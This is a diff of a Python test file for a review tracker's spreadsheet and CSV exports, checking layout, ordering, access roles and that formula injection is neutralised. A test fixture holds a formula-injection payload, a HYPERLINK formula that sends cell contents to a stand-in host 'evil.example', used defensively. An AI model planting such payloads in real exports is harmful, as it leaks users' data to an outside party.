@@ -1,5 +1,9 @@
 """The exports: the board pack, a reviewer's responses log, the comment register (xlsx and
-CSV), their download routes and CLI commands, and formula injection in every one of them."""
+CSV), their download routes and CLI commands, and formula injection in every one of them.
+
+The service tests run in the test's own app context (`app_context`); the route and CLI tests
+read the database in `with app.app_context():` blocks closed before each request or command.
+"""
 
 from __future__ import annotations
 
@@ -7,6 +11,7 @@ import csv
 import io
 import re
 import zipfile
+from datetime import datetime
 
 import pytest
 from openpyxl import load_workbook
@@ -14,22 +19,22 @@ from sqlalchemy import func, select
 
 from reviewtracker.extensions import db
 from reviewtracker.models import Comment, Organisation
-from reviewtracker.services import ServiceError
-from reviewtracker.services.comment_queries import CommentFilter, filtered_ids
-from reviewtracker.services.exports import (
-    FORMULA_TRIGGERS,
-    board_pack,
-    comment_register,
-    comment_register_csv,
-    filter_from_names,
-    organisation_by_name,
-    responses_log,
-)
+from reviewtracker.services import ServiceError, spreadsheet
+from reviewtracker.services.board_pack import board_pack
+from reviewtracker.services.comment_choices import filter_from_names
+from reviewtracker.services.comment_filter import CommentFilter
+from reviewtracker.services.comment_register import comment_register, comment_register_csv
+from reviewtracker.services.organisations import organisation_by_name
+from reviewtracker.services.responses_log import responses_log
+from reviewtracker.services.scope import Scope
+from reviewtracker.services.spreadsheet import FORMULA_TRIGGERS
 
 from .dashboard_data import DEMO_MONTH, add_comment
 from .demo_copy import load_demo_copy
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+STAFF = Scope.staff()
+in_context = pytest.mark.usefixtures("app_context")
 # Text that would run if a spreadsheet took it for a formula.
 HOSTILE = {
     "text": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
@@ -72,6 +77,7 @@ def organisation_id(name: str) -> int:
 # --- the board pack -------------------------------------------------------------------------
 
 
+@in_context
 def test_board_pack_is_laid_out_as_the_pack(demo):
     book = workbook(board_pack("1", month=DEMO_MONTH))
     assert book.sheetnames == [
@@ -132,6 +138,7 @@ def test_board_pack_is_laid_out_as_the_pack(demo):
     assert definitions["B4"].alignment.wrap_text
 
 
+@in_context
 def test_board_pack_design_dashboard_has_the_rag_colours_and_a_legend(demo):
     sheet = workbook(board_pack("1", month=DEMO_MONTH))["Design dashboard"]
     assert sheet["A1"].value == "MHHS Design Dashboard- April 2022"
@@ -165,6 +172,7 @@ def test_board_pack_design_dashboard_has_the_rag_colours_and_a_legend(demo):
     assert sheet.cell(start, 2).value == "On schedule for the planned DAG month."
 
 
+@in_context
 def test_board_pack_chart_uses_the_pages_colours(demo):
     data = board_pack("2", month=DEMO_MONTH)
     with zipfile.ZipFile(io.BytesIO(data)) as package:
@@ -177,7 +185,8 @@ def test_board_pack_chart_uses_the_pages_colours(demo):
     assert "Open" in header
 
 
-def test_board_pack_of_a_tranche_without_comments(app):
+@in_context
+def test_board_pack_of_a_tranche_without_comments():
     data = board_pack("TBC")
     book = workbook(data)
     status = book["Comment status"]
@@ -187,7 +196,8 @@ def test_board_pack_of_a_tranche_without_comments(app):
     assert [c.value for c in constituencies[constituencies.max_row]] == ["Total", 0, 0]
 
 
-def test_board_pack_refuses_an_unknown_tranche_or_month(app):
+@in_context
+def test_board_pack_refuses_an_unknown_tranche_or_month():
     with pytest.raises(ServiceError, match="unknown tranche"):
         board_pack("9")
     with pytest.raises(ServiceError, match="YYYY-MM"):
@@ -206,15 +216,16 @@ def hostile_comment(**extra) -> Comment:
     )
 
 
-def test_xlsx_exports_never_write_a_formula(app):
+@in_context
+def test_xlsx_exports_never_write_a_formula():
     comment = hostile_comment(disposition="action")
     from reviewtracker.models import Artefact
 
     db.session.get(Artefact, comment.artefact_id).title = "=1+1 title"
     db.session.commit()
     exports = {
-        "register": comment_register(CommentFilter()),
-        "responses": responses_log(comment.organisation_id),
+        "register": comment_register(CommentFilter(scope=STAFF)),
+        "responses": responses_log(comment.organisation_id, STAFF),
         "board pack": board_pack("1"),
     }
     for name, data in exports.items():
@@ -244,9 +255,10 @@ def test_xlsx_exports_never_write_a_formula(app):
     assert pack["A4"].value == "BP004- =1+1 title"  # starts with the reference: plain text
 
 
-def test_every_formula_trigger_is_neutralised_in_csv(app):
+@in_context
+def test_every_formula_trigger_is_neutralised_in_csv():
     hostile_comment()
-    data = comment_register_csv(CommentFilter())
+    data = comment_register_csv(CommentFilter(scope=STAFF))
     assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads it as UTF-8
     rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
     assert len(rows) == 1
@@ -262,17 +274,19 @@ def test_every_formula_trigger_is_neutralised_in_csv(app):
     assert row["Organisation"] == "Acme Energy"  # ordinary text untouched
 
 
-def test_unicode_and_control_characters_survive(app):
+@in_context
+def test_unicode_and_control_characters_survive():
     add_comment("BP004", "Ünïcödé — “quotes” £ \x0b vertical tab")
-    data = comment_register(CommentFilter())
+    data = comment_register(CommentFilter(scope=STAFF))
     assert workbook(data).active["P2"].value == "Ünïcödé — “quotes” £  vertical tab"
-    text = comment_register_csv(CommentFilter()).decode("utf-8-sig")
+    text = comment_register_csv(CommentFilter(scope=STAFF)).decode("utf-8-sig")
     assert "Ünïcödé — “quotes” £" in text
 
 
 # --- responses log --------------------------------------------------------------------------
 
 
+@in_context
 def test_responses_log_has_only_that_organisations_comments_and_no_internal_notes(demo):
     elexon = organisation_id("Elexon")
     notes = db.session.scalars(
@@ -283,7 +297,7 @@ def test_responses_log_has_only_that_organisations_comments_and_no_internal_note
     for comment in notes:
         comment.internal_note = f"SECRET-NOTE-{comment.id}"
     db.session.commit()
-    data = responses_log(elexon)
+    data = responses_log(elexon, STAFF)
     assert "SECRET-NOTE" not in all_xml(data)
     sheet = workbook(data).active
     assert sheet["A1"].value == "Responses to the comments of Elexon"
@@ -325,15 +339,17 @@ def test_responses_log_has_only_that_organisations_comments_and_no_internal_note
     assert others > 0 and len(rows) < 707 + 240
 
 
-def test_responses_route_and_unknown_organisation(demo, client, login):
+def test_responses_route_and_unknown_organisation(app, demo, client, login):
     login("viewer")
-    elexon = organisation_id("Elexon")
+    with app.app_context():
+        elexon = organisation_id("Elexon")
     response = client.get(f"/exports/responses/{elexon}.xlsx")
     assert response.status_code == 200 and response.mimetype == XLSX
     assert "filename=responses-elexon.xlsx" in response.headers["Content-Disposition"]
     assert client.get("/exports/responses/99999.xlsx").status_code == 404
 
 
+@in_context
 def test_organisations_are_found_by_folded_name(demo):
     assert organisation_by_name("  ELEXON ").name == "Elexon"
     assert organisation_by_name("harbour   networks").name == "Harbour Networks"
@@ -344,13 +360,14 @@ def test_organisations_are_found_by_folded_name(demo):
 # --- the comment register ---------------------------------------------------------------------
 
 
-def test_comment_register_is_the_list_filtered_and_ordered(demo):
-    f = CommentFilter(tranche="1", disposition="rejected", sort="organisation")
+@in_context
+def test_comment_register_is_the_list_filtered(demo):
+    f = CommentFilter(tranche="1", disposition="rejected", sort="organisation", scope=STAFF)
     sheet = workbook(comment_register(f)).active
     header = [c.value for c in sheet[1]]
     assert sheet.freeze_panes == "A2" and all(c.font.bold for c in sheet[1])
     ids = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
-    assert ids == list(db.session.scalars(filtered_ids(f))) and len(ids) == 44
+    assert len(ids) == len(set(ids)) == 44  # tranche 1's rejected comments, each once
     rows = [
         dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)
     ]
@@ -365,10 +382,54 @@ def test_comment_register_is_the_list_filtered_and_ordered(demo):
     ]
 
 
-def test_register_downloads_follow_the_list_filter_and_role(demo, client, login):
-    comment_id = db.session.scalar(select(Comment.id).order_by(Comment.id).limit(1))
-    db.session.get(Comment, comment_id).internal_note = "INTERNAL-ONLY"
-    db.session.commit()
+# Six comments whose every order is known: (artefact, organisation, disposition, last change).
+# The organisation sort is by the folded name: "bright grid" between "Acme" and "Northern".
+ORDERED = {
+    "one": ("IF005", "Northern Meters", "rejected", datetime(2024, 3, 1, 9)),
+    "two": ("BP004", "bright grid", "action", datetime(2024, 3, 5, 9)),
+    "three": ("BP005", "Acme Energy", "rejected", datetime(2024, 3, 3, 9)),
+    "four": ("BP004", "Northern Meters", "accepted", datetime(2024, 3, 5, 9)),
+    "five": ("BP004", "Acme Energy", "open", datetime(2024, 3, 2, 9)),
+    "six": ("BP005", "bright grid", "clarification", datetime(2024, 3, 4, 9)),
+}
+
+
+@in_context
+@pytest.mark.parametrize(
+    ("parts", "expected"),
+    [
+        # By artefact reference, then by id (the order they were added).
+        ({"sort": "artefact"}, ["two", "four", "five", "three", "six", "one"]),
+        # By the folded organisation name, then by id.
+        ({"sort": "organisation"}, ["three", "five", "two", "six", "one", "four"]),
+        # Accepted, action, rejected, clarification, open; then by id.
+        ({"sort": "disposition"}, ["four", "two", "one", "three", "six", "five"]),
+        # Newest change first; "two" and "four" changed at once: the later id first.
+        ({"sort": "changed"}, ["four", "two", "six", "three", "five", "one"]),
+        # The filter narrows, the order stays.
+        ({"disposition": "rejected", "sort": "organisation"}, ["three", "one"]),
+        ({"artefact": "BP004", "sort": "organisation"}, ["five", "two", "four"]),
+    ],
+    ids=["artefact", "organisation", "disposition", "changed", "rejected", "bp004"],
+)
+def test_comment_register_rows_are_in_the_lists_order(parts, expected):
+    for text, (artefact, organisation, disposition, changed) in ORDERED.items():
+        add_comment(
+            artefact, text, organisation=organisation, disposition=disposition, updated_at=changed
+        )
+    f = CommentFilter(tranche="1", scope=STAFF, **parts)
+    sheet = workbook(comment_register(f)).active
+    column = [c.value for c in sheet[1]].index("Reviewer Comment")
+    assert [row[column] for row in sheet.iter_rows(min_row=2, values_only=True)] == expected
+    csv_rows = csv.DictReader(io.StringIO(comment_register_csv(f).decode("utf-8-sig")))
+    assert [row["Reviewer Comment"] for row in csv_rows] == expected
+
+
+def test_register_downloads_follow_the_list_filter_and_role(app, demo, client, login):
+    with app.app_context():
+        comment_id = db.session.scalar(select(Comment.id).order_by(Comment.id).limit(1))
+        db.session.get(Comment, comment_id).internal_note = "INTERNAL-ONLY"
+        db.session.commit()
     login("viewer")
     response = client.get("/exports/comments.xlsx?tranche=1&artefact=BP004&disposition=action")
     assert response.status_code == 200 and response.mimetype == XLSX
@@ -379,10 +440,11 @@ def test_register_downloads_follow_the_list_filter_and_role(demo, client, login)
     assert "INTERNAL-ONLY" not in client.get("/exports/comments.csv").get_data(as_text=True)
 
 
-def test_triagers_get_the_internal_notes(demo, client, login):
-    comment_id = db.session.scalar(select(Comment.id).order_by(Comment.id).limit(1))
-    db.session.get(Comment, comment_id).internal_note = "INTERNAL-ONLY"
-    db.session.commit()
+def test_triagers_get_the_internal_notes(app, demo, client, login):
+    with app.app_context():
+        comment_id = db.session.scalar(select(Comment.id).order_by(Comment.id).limit(1))
+        db.session.get(Comment, comment_id).internal_note = "INTERNAL-ONLY"
+        db.session.commit()
     login("triager")
     text = client.get("/exports/comments.csv").get_data(as_text=True)
     assert "Internal Note" in text.splitlines()[0] and "INTERNAL-ONLY" in text
@@ -401,8 +463,10 @@ def test_board_pack_route(demo, client, login):
     assert client.get("/exports/board-pack.xlsx?tranche=1&round=x").status_code == 400
 
 
+@in_context
 def test_filter_from_names(demo):
     f = filter_from_names(
+        STAFF,
         tranche="1",
         artefact="MHHSP-BP004",
         organisation=" elexon",
@@ -413,15 +477,15 @@ def test_filter_from_names(demo):
     assert f.artefact == "BP004" and f.review_round == 1 and f.disposition == "accepted"
     assert f.organisation_id == organisation_id("Elexon") and f.constituency_id
     with pytest.raises(ServiceError, match="not an artefact reference"):
-        filter_from_names(artefact="nonsense")
+        filter_from_names(STAFF, artefact="nonsense")
     with pytest.raises(ServiceError, match="no constituency called"):
-        filter_from_names(constituency="Martians")
+        filter_from_names(STAFF, constituency="Martians")
 
 
 # --- the command line -------------------------------------------------------------------------
 
 
-def test_cli_exports_write_files(demo, runner, tmp_path):
+def test_cli_exports_write_files(app, demo, runner, tmp_path):
     pack = tmp_path / "pack.xlsx"
     result = runner.invoke(
         args=["export", "board-pack", "--tranche", "1", "--month", DEMO_MONTH, "-o", str(pack)]
@@ -446,12 +510,13 @@ def test_cli_exports_write_files(demo, runner, tmp_path):
     args = ["export", "comments", "--artefact", "BP-004", "--organisation", "elexon"]
     result = runner.invoke(args=[*args, "-o", str(xlsx)])
     assert result.exit_code == 0, result.output
-    count = db.session.scalar(
-        select(func.count())
-        .select_from(Comment)
-        .where(Comment.organisation_id == organisation_id("Elexon"))
-        .where(Comment.artefact.has(reference="BP004"))
-    )
+    with app.app_context():
+        count = db.session.scalar(
+            select(func.count())
+            .select_from(Comment)
+            .where(Comment.organisation_id == organisation_id("Elexon"))
+            .where(Comment.artefact.has(reference="BP004"))
+        )
     assert workbook(xlsx.read_bytes()).active.max_row == 1 + count
 
 
@@ -489,17 +554,15 @@ def test_plain_values_skip_the_cell_object_but_formulas_and_bad_text_never_do():
     """The register passes plain values to openpyxl as they are (a cell object per value was a
     third of a large export's time); anything a spreadsheet would run, or that xlsx cannot
     hold, still goes through the one cell helper."""
-    from datetime import date, datetime
+    from datetime import date
 
     from openpyxl import Workbook
     from openpyxl.cell.cell import Cell
 
-    from reviewtracker.services.exports import _value
-
     sheet = Workbook(write_only=True).create_sheet("x")
     for plain in (None, 3, 2.5, "BP004", "Elexon", date(2024, 3, 8), datetime(2024, 3, 8, 9)):
-        assert _value(sheet, plain) == plain
+        assert spreadsheet.xlsx_value(sheet, plain) == plain
     for risky in ("=HYPERLINK(1)", "+44 1234", "-1", "@SUM(A1)", "bell\x07", "x" * 40_000):
-        cell = _value(sheet, risky)
+        cell = spreadsheet.xlsx_value(sheet, risky)
         assert isinstance(cell, Cell) and cell.data_type == "s"
-    assert _value(sheet, "=1").quotePrefix
+    assert spreadsheet.xlsx_value(sheet, "=1").quotePrefix
